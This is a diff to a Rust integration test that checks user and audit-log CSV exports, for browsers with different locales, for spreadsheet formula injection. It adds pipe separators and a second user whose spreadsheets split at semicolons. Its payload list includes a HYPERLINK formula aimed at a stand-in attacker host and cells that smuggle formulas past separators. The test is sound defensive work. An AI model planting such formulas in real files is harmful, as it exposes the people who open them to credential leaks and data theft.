@@ -16,8 +16,8 @@ const FORMULAS: [&str; 10] = [
     "=HYPERLINK(\"\\\\evil.example\")",
     "=1+1;=2",
 ];
-const FRONTS: [&str; 6] = ["", " ", "x;", "x;\"", "x,", "\""];
-const SEPARATORS: [u8; 3] = [b',', b';', b'\t'];
+const FRONTS: [&str; 7] = ["", " ", "x;", "x;\"", "x,", "x|", "\""];
+const SEPARATORS: [u8; 4] = [b',', b';', b'\t', b'|'];
 
 fn cells() -> impl Iterator<Item = String> {
     FORMULAS.iter().flat_map(|formula| FRONTS.iter().map(move |front| format!("{front}{formula}")))
@@ -52,24 +52,30 @@ fn check(file: &str) {
 #[tokio::test]
 async fn no_export_holds_a_formula_for_a_spreadsheet_of_any_country() {
     let app = TestApp::new().await;
-    assert_eq!(cells().count(), 60);
+    assert_eq!(cells().count(), 70);
     let alice = app.sign_in("alice").await;
     let mut members = Vec::new();
     for (number, cell) in cells().enumerate() {
         let user = person(&app, &cell, &format!("cell{number}@x.example")).await;
         members.push(join(&app, user).await);
     }
-    let people = export(&alice, "/users", "/users/export").await;
-    assert!(people.matches("@x.example").count() == 60, "{people}");
-    check(&people);
+    // Carol reads Spanish, whose spreadsheets split at semicolons.
+    let carol = app.sign_in("carol").await;
+    for browser in [&alice, &carol] {
+        let people = export(browser, "/users", "/users/export").await;
+        assert!(people.matches("@x.example").count() == 70, "{people}");
+        check(&people);
+    }
     // Each of them gets a role, so that the audit log names them all.
     for id in members {
         let path = format!("/users/{id}");
         let form = alice.get(&path).await.page().form(&format!("{path}/roles"));
         alice.submit(&form.tick_one("roles", "billing")).await.expect(303);
     }
-    let log = export(&alice, "/audit?show=users", "/audit/export").await;
-    assert!(log.lines().count() > 60, "{log}");
-    check(&log);
+    for browser in [&alice, &carol] {
+        let log = export(browser, "/audit?show=users", "/audit/export").await;
+        assert!(log.lines().count() > 60, "{log}");
+        check(&log);
+    }
     app.deliver().await;
 }
